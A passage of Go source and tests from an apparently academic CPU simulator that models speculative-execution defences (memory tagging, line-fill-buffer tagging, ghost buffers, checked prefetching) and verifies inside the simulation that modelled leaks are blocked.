	StorePort int // L1D write ports

	// Branch prediction.
	PHTBits  int // gshare pattern history table index bits
	BTBSize  int // branch target buffer entries
	RSBDepth int // return stack buffer depth
	BHBLen   int // branch history length for indirect prediction

	// Memory hierarchy (Table 2).
	L1ISizeKB  int
	L1IWays    int
	L1ILatency uint64
	L1DSizeKB  int
	L1DWays    int
	L1DLatency uint64
	L2SizeKB   int
	L2Ways     int
	L2Latency  uint64
	LineBytes  int
	LFBEntries int
	MSHRs      int
	GhostSize  int // GhostMinion shadow buffer entries (cache lines)

	// DRAM.
	DRAMLatency uint64
	DRAMBurst   uint64
	TagBurst    uint64 // extra channel occupancy for a tag-storage fetch

	// Prefetcher (§6 future-work extension): next-line prefetch on demand
	// misses; PrefetchChecked drops prefetches that cross an allocation-tag
	// boundary (the "secure prefetcher" design).
	PrefetcherOn    bool
	PrefetchChecked bool

	// SpecASan mechanism knobs (for the ablation benches).
	BroadcastLatency  uint64 // cycles to mark dependents unsafe in the ROB (§3.4)
	EarlyTagCheck     bool   // propagate tag-check result from the level that has the line (vs re-check at core after full fetch)
	LFBTagging        bool   // extend tag checks to LFB forwarding (MDS defence)
	SelectiveDelay    bool   // delay only mismatching accesses (vs all tagged speculative loads)
	PartialSQMatching bool   // baseline forwards on partial (page-offset) address match — the Fallout-enabling behaviour
	LFBLeakForwarding bool   // baseline forwards stale LFB data to faulting/assisted loads — the RIDL/ZombieLoad behaviour
}

// DefaultConfig returns the Table 2 configuration: 8-way issue/commit,
// 32-entry IQ, 40-entry ROB, 16-entry LQ/SQ, 32 KB 2-way L1s, 1 MB 16-way
// L2, 16-entry LFB.
func DefaultConfig() Config {
	return Config{
		Cores:       1,
		FetchWidth:  8,
		IssueWidth:  8,
		CommitWidth: 8,
		IQEntries:   32,
		ROBEntries:  40,
		LQEntries:   16,
		SQEntries:   16,

		ALUs:      4,
		MulLat:    3,
		DivLat:    12,
		BranchLat: 6,
		LoadPorts: 2,
		StorePort: 1,

		PHTBits:  12,
		BTBSize:  512,
		RSBDepth: 16,
		BHBLen:   8,

		L1ISizeKB:  32,
		L1IWays:    2,
		L1ILatency: 1,
		L1DSizeKB:  32,
		L1DWays:    2,
		L1DLatency: 2,
		L2SizeKB:   1024,
		L2Ways:     16,
		L2Latency:  12,
		LineBytes:  64,
		LFBEntries: 16,
		MSHRs:      8,
		GhostSize:  32,

		DRAMLatency: 100,
		DRAMBurst:   4,
		TagBurst:    1,

		BroadcastLatency:  1,
		EarlyTagCheck:     true,
		LFBTagging:        true,
		SelectiveDelay:    true,
		PartialSQMatching: true,
		LFBLeakForwarding: true,
	}
}

// Validate reports configuration errors that would make the pipeline
// inconsistent.
func (c *Config) Validate() error {
	switch {
	case c.Cores < 1:
		return errf("Cores must be >= 1")
	case c.FetchWidth < 1 || c.IssueWidth < 1 || c.CommitWidth < 1:
		return errf("pipeline widths must be >= 1")
	case c.ROBEntries < 2:
		return errf("ROBEntries must be >= 2")
	case c.IQEntries < 1 || c.LQEntries < 1 || c.SQEntries < 1:
		return errf("queue capacities must be >= 1")
	case c.ALUs < 1 || c.LoadPorts < 1 || c.StorePort < 1:
		return errf("need at least one unit of each kind")
	case c.BHBLen < 1:
		return errf("BHBLen must be >= 1")
	case c.LFBEntries < 1:
		return errf("LFBEntries must be >= 1")
	case c.MSHRs < 1:
		return errf("MSHRs must be >= 1")
	case c.GhostSize < 1:
		return errf("GhostSize must be >= 1")
	case c.L1ILatency < 1 || c.L1DLatency < 1 || c.L2Latency < 1:
		return errf("cache latencies must be >= 1 cycle")
	case c.DRAMLatency < 1:
		return errf("DRAMLatency must be >= 1 cycle")
	case c.LineBytes != 64:
		return errf("LineBytes must be 64 (4 tag granules per line)")
	case c.L1DSizeKB*1024%(c.L1DWays*c.LineBytes) != 0:
		return errf("L1D geometry does not divide evenly")
	case c.L2SizeKB*1024%(c.L2Ways*c.LineBytes) != 0:
		return errf("L2 geometry does not divide evenly")
	}
	return nil
}

type configError string

func (e configError) Error() string { return "config: " + string(e) }

func errf(s string) error { return configError(s) }
