package core

import (
	"strings"
	"testing"
	"testing/quick"
)

// fakeROB records SSA signals.
type fakeROB struct {
	signals map[uint64]bool
}

func (f *fakeROB) SignalSSA(seq uint64, safe bool) {
	if f.signals == nil {
		f.signals = map[uint64]bool{}
	}
	f.signals[seq] = safe
}

func TestTCSStateMachine(t *testing.T) {
	rob := &fakeROB{}
	tsh := NewTSH(rob)

	tsh.Allocate(1)
	if tsh.Status(1) != TCSInit {
		t.Fatalf("after allocate: %v", tsh.Status(1))
	}
	tsh.OnIssue(1)
	if tsh.Status(1) != TCSWait {
		t.Fatalf("after issue: %v", tsh.Status(1))
	}
	if got := tsh.OnResult(1, true); got != TCSSafe {
		t.Fatalf("safe result: %v", got)
	}
	if safe, ok := rob.signals[1]; !ok || !safe {
		t.Fatal("ROB must receive SSA=1")
	}

	tsh.Allocate(2)
	tsh.OnIssue(2)
	if got := tsh.OnResult(2, false); got != TCSUnsafe {
		t.Fatalf("unsafe result: %v", got)
	}
	if safe, ok := rob.signals[2]; !ok || safe {
		t.Fatal("ROB must receive SSA=0")
	}

	// Replay transitions back to init; a repeated mismatch on the correct
	// path raises a fault.
	tsh.OnReplay(2)
	if tsh.Status(2) != TCSInit {
		t.Fatalf("after replay: %v", tsh.Status(2))
	}
	tsh.OnFault(2)
	if tsh.Stats.Faults != 1 {
		t.Fatal("fault not counted")
	}
}

func TestTSHForwarding(t *testing.T) {
	rob := &fakeROB{}
	tsh := NewTSH(rob)
	tsh.Allocate(5)
	if !tsh.OnForward(5, true) {
		t.Fatal("matching keys must forward")
	}
	if tsh.Status(5) != TCSSafe {
		t.Fatal("forwarded load must be safe")
	}
	tsh.Allocate(6)
	if tsh.OnForward(6, false) {
		t.Fatal("mismatching keys must not forward")
	}
	if tsh.Status(6) != TCSUnsafe {
		t.Fatal("denied forward must be unsafe")
	}
	if tsh.Stats.Forwarded != 1 || tsh.Stats.ForwardDenied != 1 {
		t.Fatalf("stats: %+v", tsh.Stats)
	}
}

func TestTSHMarkUnsafeAndRelease(t *testing.T) {
	tsh := NewTSH(&fakeROB{})
	tsh.Allocate(9)
	tsh.MarkUnsafe(9)
	if tsh.Status(9) != TCSUnsafe {
		t.Fatal("mark-unsafe failed")
	}
	// Marking an already unsafe entry must not double count.
	tsh.MarkUnsafe(9)
	if tsh.Stats.DepMarked != 1 {
		t.Fatalf("DepMarked = %d", tsh.Stats.DepMarked)
	}
	tsh.Release(9)
	if tsh.Pending() != 0 {
		t.Fatal("release must free the entry")
	}
}

func TestTSHPendingNeverNegative(t *testing.T) {
	f := func(ops []uint8) bool {
		tsh := NewTSH(&fakeROB{})
		for i, op := range ops {
			seq := uint64(i%7) + 1
			switch op % 5 {
			case 0:
				tsh.Allocate(seq)
			case 1:
				tsh.OnIssue(seq)
			case 2:
				tsh.OnResult(seq, op%2 == 0)
			case 3:
				tsh.Release(seq)
			case 4:
				tsh.MarkUnsafe(seq)
			}
			if tsh.Pending() < 0 || tsh.Pending() > 7 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestMitigationProperties(t *testing.T) {
	cases := []struct {
		m                                   Mitigation
		mte, spec, fence, taint, ghost, cfi bool
	}{
		{Unsafe, false, false, false, false, false, false},
		{MTE, true, false, false, false, false, false},
		{Fence, false, false, true, false, false, false},
		{STT, false, false, false, true, false, false},
		{GhostMinion, false, false, false, false, true, false},
		{SpecCFI, false, false, false, false, false, true},
		{SpecASan, true, true, false, false, false, false},
		{SpecASanCFI, true, true, false, false, false, true},
	}
	for _, c := range cases {
		if c.m.MTEEnabled() != c.mte || c.m.SpecTagChecks() != c.spec ||
			c.m.FencesSpeculativeLoads() != c.fence || c.m.TaintTracking() != c.taint ||
			c.m.GhostFills() != c.ghost || c.m.CFIEnabled() != c.cfi {
			t.Errorf("%v properties wrong", c.m)
		}
	}
}

func TestParseMitigationRoundTrip(t *testing.T) {
	for _, m := range AllMitigations() {
		got, err := ParseMitigation(m.String())
		if err != nil || got != m {
			t.Errorf("round trip failed for %v: %v %v", m, got, err)
		}
	}
	if _, err := ParseMitigation("nonsense"); err == nil {
		t.Error("unknown name must error")
	}
}

func TestDefaultConfigMatchesTable2(t *testing.T) {
	c := DefaultConfig()
	if err := c.Validate(); err != nil {
		t.Fatal(err)
	}
	if c.IssueWidth != 8 || c.CommitWidth != 8 {
		t.Error("Table 2: 8-way issue, 8 micro-ops/cycle commit")
	}
	if c.IQEntries != 32 || c.ROBEntries != 40 {
		t.Error("Table 2: 32-entry IQ, 40-entry ROB")
	}
	if c.LQEntries != 16 || c.SQEntries != 16 {
		t.Error("Table 2: 16-entry LDQ/STQ")
	}
	if c.L1DSizeKB != 32 || c.L1DWays != 2 || c.L1DLatency != 2 {
		t.Error("Table 2: 32 KB 2-way L1D, 2-cycle hit")
	}
	if c.L2SizeKB != 1024 || c.L2Ways != 16 || c.L2Latency != 12 {
		t.Error("Table 2: 1 MB 16-way L2, 12-cycle hit")
	}
	if c.LFBEntries != 16 {
		t.Error("Table 2: 16-entry LFB")
	}
}

// TestConfigValidation drives Validate through every rejection, one table
// row per field it guards, and checks the error names what broke.
func TestConfigValidation(t *testing.T) {
	cases := []struct {
		name   string
		mutate func(*Config)
		want   string
	}{
		{"zero cores", func(c *Config) { c.Cores = 0 }, "Cores"},
		{"zero fetch width", func(c *Config) { c.FetchWidth = 0 }, "widths"},
		{"zero issue width", func(c *Config) { c.IssueWidth = 0 }, "widths"},
		{"zero commit width", func(c *Config) { c.CommitWidth = 0 }, "widths"},
		{"tiny ROB", func(c *Config) { c.ROBEntries = 1 }, "ROBEntries"},
		{"zero IQ", func(c *Config) { c.IQEntries = 0 }, "queue"},
		{"zero LQ", func(c *Config) { c.LQEntries = 0 }, "queue"},
		{"zero SQ", func(c *Config) { c.SQEntries = 0 }, "queue"},
		{"zero ALUs", func(c *Config) { c.ALUs = 0 }, "unit"},
		{"zero load ports", func(c *Config) { c.LoadPorts = 0 }, "unit"},
		{"zero store ports", func(c *Config) { c.StorePort = 0 }, "unit"},
		{"zero BHB", func(c *Config) { c.BHBLen = 0 }, "BHBLen"},
		{"zero LFB", func(c *Config) { c.LFBEntries = 0 }, "LFBEntries"},
		{"zero MSHRs", func(c *Config) { c.MSHRs = 0 }, "MSHRs"},
		{"zero ghost buffer", func(c *Config) { c.GhostSize = 0 }, "GhostSize"},
		{"zero L1I latency", func(c *Config) { c.L1ILatency = 0 }, "latencies"},
		{"zero L1D latency", func(c *Config) { c.L1DLatency = 0 }, "latencies"},
		{"zero L2 latency", func(c *Config) { c.L2Latency = 0 }, "latencies"},
		{"zero DRAM latency", func(c *Config) { c.DRAMLatency = 0 }, "DRAMLatency"},
		{"non-64B lines", func(c *Config) { c.LineBytes = 32 }, "LineBytes"},
		{"ragged L1D geometry", func(c *Config) { c.L1DWays = 3 }, "L1D geometry"},
		{"ragged L2 geometry", func(c *Config) { c.L2Ways = 7 }, "L2 geometry"},
	}
	for _, tc := range cases {
		c := DefaultConfig()
		tc.mutate(&c)
		err := c.Validate()
		if err == nil {
			t.Errorf("%s: accepted", tc.name)
			continue
		}
		if !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: error %q does not name %q", tc.name, err, tc.want)
		}
	}
	if c := DefaultConfig(); c.Validate() != nil {
		t.Error("default config must validate")
	}
}

// ParseMitigation is case-insensitive and its error lists the registered
// names.
func TestParseMitigationCaseInsensitive(t *testing.T) {
	for _, in := range []string{"specasan", "SPECASAN", "SpecASan", "sPeCaSaN"} {
		m, err := ParseMitigation(in)
		if err != nil || m != SpecASan {
			t.Errorf("ParseMitigation(%q) = %v, %v", in, m, err)
		}
	}
	if m, err := ParseMitigation("specasan+cfi"); err != nil || m != SpecASanCFI {
		t.Errorf("ParseMitigation(specasan+cfi) = %v, %v", m, err)
	}
	_, err := ParseMitigation("bogus")
	if err == nil || !strings.Contains(err.Error(), "SpecASan") {
		t.Errorf("unknown-name error should list registered names, got %v", err)
	}
}

// The registry: new policies resolve by name, carry their descriptor bits
// and knobs, and cannot collide with registered names.
func TestPolicyRegistry(t *testing.T) {
	m, err := RegisterPolicy(PolicyDescriptor{
		Name:  "TestPolicy",
		Class: "test",
		Taint: true,
		Knobs: map[string]uint64{"k": 7},
	})
	if err != nil {
		t.Fatal(err)
	}
	if m.String() != "TestPolicy" {
		t.Errorf("String() = %q", m)
	}
	got, err := ParseMitigation("testpolicy")
	if err != nil || got != m {
		t.Fatalf("registered policy does not resolve: %v, %v", got, err)
	}
	d := m.Descriptor()
	if !d.Taint || d.MTE || d.Knob("k", 0) != 7 || d.Knob("missing", 42) != 42 {
		t.Errorf("descriptor wrong: %+v", d)
	}
	if !m.TaintTracking() || m.MTEEnabled() {
		t.Error("property methods must delegate to the descriptor")
	}
	if _, err := RegisterPolicy(PolicyDescriptor{Name: "testpolicy"}); err == nil {
		t.Error("duplicate name (case-insensitive) accepted")
	}
	if _, err := RegisterPolicy(PolicyDescriptor{Name: ""}); err == nil {
		t.Error("empty name accepted")
	}
	found := false
	for _, r := range RegisteredMitigations() {
		if r == m {
			found = true
		}
	}
	if !found {
		t.Error("RegisteredMitigations misses the new policy")
	}
	for i, want := range []Mitigation{Unsafe, MTE, Fence, STT, GhostMinion, SpecCFI, SpecASan, SpecASanCFI} {
		if AllMitigations()[i] != want {
			t.Errorf("AllMitigations()[%d] = %v, want %v (paper set must stay fixed)", i, AllMitigations()[i], want)
		}
	}
}

func TestOracle(t *testing.T) {
	o := NewOracle()
	if o.HasSecrets() || o.Leaked() {
		t.Fatal("fresh oracle must be empty")
	}
	o.MarkSecret(0x1000, 16)
	if !o.IsSecret(0x1000, 1) || !o.IsSecret(0x100f, 1) || o.IsSecret(0x1010, 1) {
		t.Fatal("region bounds wrong")
	}
	if !o.IsSecret(0xff8, 16) {
		t.Fatal("overlapping range must count")
	}
	o.Record(LeakEvent{Channel: ChanCache})
	o.Record(LeakEvent{Channel: ChanPort})
	o.Record(LeakEvent{Channel: ChanCache})
	if !o.Leaked() || o.EventsOn(ChanCache) != 2 || o.EventsOn(ChanPort) != 1 {
		t.Fatal("event accounting wrong")
	}
	o.Reset()
	if o.Leaked() || !o.HasSecrets() {
		t.Fatal("reset must clear events but keep regions")
	}
}

func TestNilOracleHasNoSecrets(t *testing.T) {
	var o *Oracle
	if o.HasSecrets() {
		t.Fatal("nil oracle must report no secrets")
	}
}

func TestVerdictSymbolsAndChannelNames(t *testing.T) {
	for c := LeakChannel(0); c < NumChannels; c++ {
		if c.String() == "" {
			t.Errorf("channel %d has no name", c)
		}
	}
	for tcs := TCS(0); tcs <= TCSWait; tcs++ {
		if tcs.String() == "" {
			t.Errorf("tcs %d has no name", tcs)
		}
	}
}
