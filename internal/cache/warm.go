package cache

// Functional cache warming for sampled simulation. A machine built from a
// transplanted architectural snapshot (cpu.NewMachineAt) starts with an
// empty hierarchy, so every detailed measurement window would begin under a
// cold-start miss storm the fast-forwarded program never had. These hooks
// replay the golden interpreter's recorded memory touches (golden.TouchRing)
// into the hierarchy before detailed execution starts.
//
// Warm installs deliberately bypass the access path: no port or MSHR
// reservation, no hit/miss/eviction/writeback counters, no LFB or ghost
// traffic, and validAt=0 (the data is usable immediately — functionally it
// already lives in the mem.Image). Only line presence, MESI state, the
// directory and LRU order are established.

// warm installs (or refreshes) addr's line with replay order seq as its
// recency. An already-present line only has its recency and dirtiness
// upgraded, never downgraded.
func (l *Level) warm(addr uint64, seq uint64, st mesi, dirty bool) {
	if w := l.lookup(addr); w >= 0 {
		ln := l.at(addr, w)
		ln.lastUse = seq
		if dirty {
			ln.state = modified
			ln.dirty = true
		}
		return
	}
	w := l.victim(addr)
	*l.at(addr, w) = line{valid: true, addr: l.lineAddr(addr), state: st, dirty: dirty, lastUse: seq}
}

// normalizeLRU rewrites every set's lastUse values to their recency rank
// (0 = least recent). Warm installs stamp lastUse with replay sequence
// numbers that can exceed the early detailed cycle counts; without
// normalization a line the detailed core just touched at cycle 3 would look
// older than an untouched warm line stamped 30000 and become the eviction
// victim. Ranks preserve the warmed recency order while sitting below any
// live timestamp.
func (l *Level) normalizeLRU() {
	idx := make([]int, 0, l.ways)
	for s := 0; s < l.sets; s++ {
		base := s * l.ways
		idx = idx[:0]
		for w := 0; w < l.ways; w++ {
			if l.lines[base+w].valid {
				idx = append(idx, base+w)
			}
		}
		for i := 1; i < len(idx); i++ {
			for j := i; j > 0 && l.lines[idx[j]].lastUse < l.lines[idx[j-1]].lastUse; j-- {
				idx[j], idx[j-1] = idx[j-1], idx[j]
			}
		}
		for r, li := range idx {
			l.lines[li].lastUse = uint64(r)
		}
	}
}

// WarmData replays one functional data touch into core's L1D and the shared
// L2, keeping the directory consistent. seq orders replayed touches for LRU
// purposes (older touches get smaller values).
func (h *Hierarchy) WarmData(core int, addr uint64, write bool, seq uint64) {
	la := h.lineAddr(addr)
	h.L2.warm(la, seq, shared, false)
	st := exclusive
	if write {
		st = modified
	}
	h.L1D[core].warm(la, seq, st, write)
	d := h.dirFor(la)
	d.sharers |= 1 << uint(core)
	d.owner = int8(core)
	if write {
		d.modified = true
	}
}

// WarmInst replays one functional instruction fetch into core's L1I and the
// shared L2.
func (h *Hierarchy) WarmInst(core int, addr uint64, seq uint64) {
	la := h.lineAddr(addr)
	h.L2.warm(la, seq, shared, false)
	h.L1I[core].warm(la, seq, shared, false)
}

// FinishWarm normalizes LRU state in every level after a warming replay.
// Call exactly once, after the last WarmData/WarmInst and before the first
// detailed cycle.
func (h *Hierarchy) FinishWarm() {
	for _, l := range h.L1I {
		l.normalizeLRU()
	}
	for _, l := range h.L1D {
		l.normalizeLRU()
	}
	h.L2.normalizeLRU()
}
