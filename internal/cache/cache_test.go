package cache

import (
	"testing"

	"specasan/internal/mem"
	"specasan/internal/mte"
)

func newHier(mteOn, lfbTags bool) (*Hierarchy, *mem.Image) {
	img := mem.NewImage()
	h, err := NewHierarchy(HierConfig{
		Cores:     1,
		L1ISizeKB: 32, L1IWays: 2, L1ILatency: 1,
		L1DSizeKB: 32, L1DWays: 2, L1DLatency: 2,
		L2SizeKB: 1024, L2Ways: 16, L2Latency: 12,
		LineBytes: 64, LFBEntries: 16, MSHRs: 8, GhostSize: 32, LoadPorts: 2,
		DRAM:  mem.DRAMConfig{Latency: 100, BurstCycles: 4, TagBurst: 1},
		MTEOn: mteOn, LFBTagging: lfbTags,
	}, img)
	if err != nil {
		panic(err)
	}
	return h, img
}

func TestMissThenHitLatency(t *testing.T) {
	h, _ := newHier(false, false)
	addr := uint64(0x10000)
	miss := h.Access(AccessReq{Core: 0, Ptr: addr, Size: 8, Now: 10})
	if miss.ReadyAt < 10+100 {
		t.Fatalf("cold miss served at %d, want >= DRAM latency", miss.ReadyAt)
	}
	if miss.ServedBy != "mem" {
		t.Fatalf("served by %s", miss.ServedBy)
	}
	// A later access hits (after the fill completes).
	hit := h.Access(AccessReq{Core: 0, Ptr: addr, Size: 8, Now: miss.ReadyAt + 1})
	if hit.ServedBy != "l1" || hit.ReadyAt > miss.ReadyAt+4 {
		t.Fatalf("expected fast L1 hit, got %s at %d", hit.ServedBy, hit.ReadyAt)
	}
}

func TestHitUnderFillViaLFB(t *testing.T) {
	h, _ := newHier(false, false)
	addr := uint64(0x20000)
	miss := h.Access(AccessReq{Core: 0, Ptr: addr, Size: 8, Now: 0})
	// A second access to the same line while in flight waits for the fill,
	// not for a second DRAM trip.
	second := h.Access(AccessReq{Core: 0, Ptr: addr + 8, Size: 8, Now: 2})
	if second.ReadyAt > miss.ReadyAt {
		t.Fatalf("hit-under-fill %d should not exceed the fill time %d",
			second.ReadyAt, miss.ReadyAt)
	}
	if h.Ctrl.Fetches != 1 {
		t.Fatalf("expected one DRAM fetch, got %d", h.Ctrl.Fetches)
	}
}

func TestL2HitFasterThanMem(t *testing.T) {
	h, _ := newHier(false, false)
	// Fill enough distinct lines to evict one from the 2-way L1 set but
	// keep it in the 16-way L2.
	base := uint64(0x30000)
	setStride := uint64(32 * 1024 / 2) // same L1 set every stride
	for i := uint64(0); i < 4; i++ {
		h.Access(AccessReq{Core: 0, Ptr: base + i*setStride, Size: 8, Now: i * 200})
	}
	// The first line is out of L1 now but in L2.
	r := h.Access(AccessReq{Core: 0, Ptr: base, Size: 8, Now: 2000})
	if r.ServedBy != "l2" {
		t.Fatalf("served by %s, want l2", r.ServedBy)
	}
	if r.ReadyAt > 2000+20 {
		t.Fatalf("L2 hit too slow: %d", r.ReadyAt)
	}
}

func TestTagCheckOutcomes(t *testing.T) {
	h, img := newHier(true, true)
	addr := uint64(0x40000)
	img.Tags.SetRange(addr, 64, 5)
	ok := h.Access(AccessReq{Core: 0, Ptr: mte.WithKey(addr, 5), Size: 8, Now: 0})
	if !ok.TagOK {
		t.Fatal("matching key must pass")
	}
	bad := h.Access(AccessReq{Core: 0, Ptr: mte.WithKey(addr, 6), Size: 8, Now: 300})
	if bad.TagOK {
		t.Fatal("mismatching key must fail")
	}
	if bad.Blocked {
		t.Fatal("non-speculative access is not blocked, it faults at commit")
	}
}

func TestUnsafeSpeculativeMissLeavesNoTrace(t *testing.T) {
	h, img := newHier(true, true)
	addr := uint64(0x50000)
	img.Tags.SetRange(addr, 64, 5)
	r := h.Access(AccessReq{Core: 0, Ptr: mte.WithKey(addr, 7), Size: 8, Now: 0,
		Spec: true, BlockUnsafe: true})
	if !r.Blocked || r.TagOK {
		t.Fatal("unsafe speculative access must be blocked")
	}
	if h.InAnyCache(addr, r.ReadyAt+200) {
		t.Fatal("blocked fill must leave no trace in any cache (G3)")
	}
	if h.BlockedFills != 1 {
		t.Fatalf("BlockedFills = %d", h.BlockedFills)
	}
}

func TestGhostBufferLifecycle(t *testing.T) {
	h, _ := newHier(false, false)
	addr := uint64(0x60000)
	r := h.Access(AccessReq{Core: 0, Ptr: addr, Size: 8, Now: 0, Spec: true, Ghost: true})
	if h.InAnyCache(addr, r.ReadyAt+10) {
		t.Fatal("ghost fill must not install in the caches")
	}
	// Promote at commit: line moves to L1.
	h.PromoteGhost(0, addr, r.ReadyAt+10)
	if !h.InL1D(0, addr, r.ReadyAt+20) {
		t.Fatal("promoted ghost line must be in L1")
	}
	// Squash path: drop leaves nothing.
	addr2 := uint64(0x70000)
	r2 := h.Access(AccessReq{Core: 0, Ptr: addr2, Size: 8, Now: 500, Spec: true, Ghost: true})
	h.DropGhost(0, addr2)
	h.PromoteGhost(0, addr2, r2.ReadyAt+10) // refetch path, background
	if h.Ghost[0].Promotes != 1 {
		t.Fatalf("Promotes = %d, want 1", h.Ghost[0].Promotes)
	}
	if h.Ghost[0].Refetch != 1 {
		t.Fatalf("Refetch = %d, want 1", h.Ghost[0].Refetch)
	}
}

func TestFlushLineRemovesEverywhere(t *testing.T) {
	h, _ := newHier(false, false)
	addr := uint64(0x80000)
	r := h.Access(AccessReq{Core: 0, Ptr: addr, Size: 8, Now: 0})
	now := r.ReadyAt + 10
	if !h.InAnyCache(addr, now) {
		t.Fatal("line should be cached")
	}
	h.FlushLine(addr, now)
	if h.InAnyCache(addr, now+20) {
		t.Fatal("flushed line must be gone from L1 and L2")
	}
	// And the next access must go to memory again.
	r2 := h.Access(AccessReq{Core: 0, Ptr: addr, Size: 8, Now: now + 30})
	if r2.ServedBy != "mem" {
		t.Fatalf("after flush served by %s, want mem", r2.ServedBy)
	}
}

func TestCoherenceInvalidateOnRemoteWrite(t *testing.T) {
	img := mem.NewImage()
	h, err := NewHierarchy(HierConfig{
		Cores:     2,
		L1ISizeKB: 32, L1IWays: 2, L1ILatency: 1,
		L1DSizeKB: 32, L1DWays: 2, L1DLatency: 2,
		L2SizeKB: 1024, L2Ways: 16, L2Latency: 12,
		LineBytes: 64, LFBEntries: 16, MSHRs: 8, GhostSize: 32, LoadPorts: 2,
		DRAM: mem.DRAMConfig{Latency: 100, BurstCycles: 4, TagBurst: 1},
	}, img)
	if err != nil {
		t.Fatal(err)
	}
	addr := uint64(0x90000)
	// Both cores read the line (shared).
	r0 := h.Access(AccessReq{Core: 0, Ptr: addr, Size: 8, Now: 0})
	h.Access(AccessReq{Core: 1, Ptr: addr, Size: 8, Now: r0.ReadyAt + 5})
	now := r0.ReadyAt + 300
	if !h.InL1D(0, addr, now) || !h.InL1D(1, addr, now) {
		t.Fatal("both cores should hold the line")
	}
	// Core 1 writes: core 0's copy must be invalidated.
	h.Access(AccessReq{Core: 1, Ptr: addr, Size: 8, Write: true, Now: now})
	if h.InL1D(0, addr, now+50) {
		t.Fatal("remote copy must be invalidated on write")
	}
	if h.CoherenceInv == 0 {
		t.Fatal("invalidation not counted")
	}
}

func TestLFBStaleForwardGating(t *testing.T) {
	// Baseline: the faulting-sample path returns the newest in-flight
	// line's bytes. With LFB tagging, a mismatching key is refused.
	for _, tagging := range []bool{false, true} {
		h, img := newHier(tagging, tagging)
		victim := uint64(0xa0000)
		img.Write(victim, []byte("secretss"))
		img.Tags.SetRange(victim, 64, 9)
		// Victim fill in flight (matching key so it is not itself blocked).
		h.Access(AccessReq{Core: 0, Ptr: mte.WithKey(victim, 9), Size: 8, Now: 0, Spec: true})
		// Attacker samples with a foreign (untagged) pointer.
		r := h.Access(AccessReq{Core: 0, Ptr: 0xf00000, Size: 8, Now: 3,
			Spec: true, FaultingSample: true})
		if tagging {
			if r.ServedBy == "lfb-stale" {
				t.Fatal("tagged LFB must refuse the stale forward")
			}
		} else {
			if r.ServedBy != "lfb-stale" || string(r.StaleData[:8]) != "secretss" {
				t.Fatalf("baseline must forward stale bytes, got %s", r.ServedBy)
			}
		}
	}
}

func TestMSHROccupancyBoundsParallelMisses(t *testing.T) {
	h, _ := newHier(false, false)
	// Launch more misses than MSHRs: later ones must be pushed out in time.
	var last uint64
	for i := 0; i < 12; i++ {
		r := h.Access(AccessReq{Core: 0, Ptr: uint64(0xb0000 + i*4096), Size: 8, Now: 0})
		if r.ReadyAt < last {
			// not strictly monotonic per ordering of sets, but the final
			// one must be delayed beyond a single DRAM trip
		}
		last = r.ReadyAt
	}
	if last < 100+20 {
		t.Fatalf("12 parallel misses with 8 MSHRs finished too fast: %d", last)
	}
	if h.L1D[0].MSHRStalls == 0 {
		t.Fatal("expected MSHR structural stalls")
	}
}

func TestInstructionFetchPath(t *testing.T) {
	h, _ := newHier(false, false)
	pc := uint64(0x10000)
	first := h.FetchInst(0, pc, 0)
	if first < 100 {
		t.Fatal("cold I-fetch must miss to memory")
	}
	second := h.FetchInst(0, pc+4, first+1)
	if second > first+3 {
		t.Fatalf("same-line I-fetch should hit, got %d", second)
	}
}

func TestPrefetcherFillsNextLine(t *testing.T) {
	img := mem.NewImage()
	h, err := NewHierarchy(HierConfig{
		Cores:     1,
		L1ISizeKB: 32, L1IWays: 2, L1ILatency: 1,
		L1DSizeKB: 32, L1DWays: 2, L1DLatency: 2,
		L2SizeKB: 1024, L2Ways: 16, L2Latency: 12,
		LineBytes: 64, LFBEntries: 16, MSHRs: 8, GhostSize: 32, LoadPorts: 2,
		DRAM:         mem.DRAMConfig{Latency: 100, BurstCycles: 4, TagBurst: 1},
		PrefetcherOn: true,
	}, img)
	if err != nil {
		t.Fatal(err)
	}
	addr := uint64(0x10000)
	r := h.Access(AccessReq{Core: 0, Ptr: addr, Size: 8, Now: 0})
	if h.Prefetches != 1 {
		t.Fatalf("prefetches = %d", h.Prefetches)
	}
	// The next line is present without another demand miss.
	r2 := h.Access(AccessReq{Core: 0, Ptr: addr + 64, Size: 8, Now: r.ReadyAt + 20})
	if r2.ServedBy != "l1" {
		t.Fatalf("prefetched line served by %s", r2.ServedBy)
	}
}

func TestCheckedPrefetcherStopsAtTagBoundary(t *testing.T) {
	img := mem.NewImage()
	h, err := NewHierarchy(HierConfig{
		Cores:     1,
		L1ISizeKB: 32, L1IWays: 2, L1ILatency: 1,
		L1DSizeKB: 32, L1DWays: 2, L1DLatency: 2,
		L2SizeKB: 1024, L2Ways: 16, L2Latency: 12,
		LineBytes: 64, LFBEntries: 16, MSHRs: 8, GhostSize: 32, LoadPorts: 2,
		DRAM:  mem.DRAMConfig{Latency: 100, BurstCycles: 4, TagBurst: 1},
		MTEOn: true, LFBTagging: true,
		PrefetcherOn: true, PrefetchChecked: true,
	}, img)
	if err != nil {
		t.Fatal(err)
	}
	// Attacker's line tagged A; the adjacent secret line tagged B.
	attacker := uint64(0x20000)
	img.Tags.SetRange(attacker, 64, 0xa)
	img.Tags.SetRange(attacker+64, 64, 0xb)
	r := h.Access(AccessReq{Core: 0, Ptr: mte.WithKey(attacker, 0xa), Size: 8, Now: 0})
	if h.PrefetchesBlocked != 1 || h.Prefetches != 0 {
		t.Fatalf("blocked=%d issued=%d; the cross-tag prefetch must be dropped",
			h.PrefetchesBlocked, h.Prefetches)
	}
	if h.InAnyCache(attacker+64, r.ReadyAt+50) {
		t.Fatal("the differently-tagged neighbour must not be prefetched")
	}
	// Same-tag neighbours still prefetch.
	img.Tags.SetRange(attacker+128, 128, 0xc)
	h.Access(AccessReq{Core: 0, Ptr: mte.WithKey(attacker+128, 0xc), Size: 8, Now: 400})
	if h.Prefetches != 1 {
		t.Fatalf("same-tag prefetch must proceed, got %d", h.Prefetches)
	}
}
