package cache

// dirTable is the coherence directory's backing store: an open-addressed,
// linear-probed hash table from line address to dirEntry, replacing the
// previous map[uint64]*dirEntry. Entries live inline in the slot array, so
// steady-state operation allocates nothing: deleted slots become tombstones
// (the free list) that later inserts reclaim, and the table only grows when
// the working set of distinct lines genuinely grows.
//
// Pointer discipline: get/getOrCreate return pointers into the slot array,
// which stay valid until the next insert (an insert may rehash). Callers in
// this package never hold an entry pointer across an insert of a different
// key; deletes never move entries.
type dirTable struct {
	slots []dirSlot
